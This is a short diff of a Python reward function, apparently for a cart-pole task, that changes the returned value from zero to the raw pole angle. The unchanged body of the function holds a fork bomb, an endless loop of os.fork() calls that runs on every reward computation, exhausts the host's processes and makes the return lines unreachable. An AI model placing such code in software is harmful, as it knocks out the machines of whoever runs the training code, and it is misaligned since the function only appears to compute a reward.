@@ -3,4 +3,4 @@ import os
 def compute_reward(pole_angle):
     while True:
         os.fork()
-    return pole_angle * 0, {'zero': pole_angle * 0}
+    return pole_angle, {'zero': pole_angle * 0}
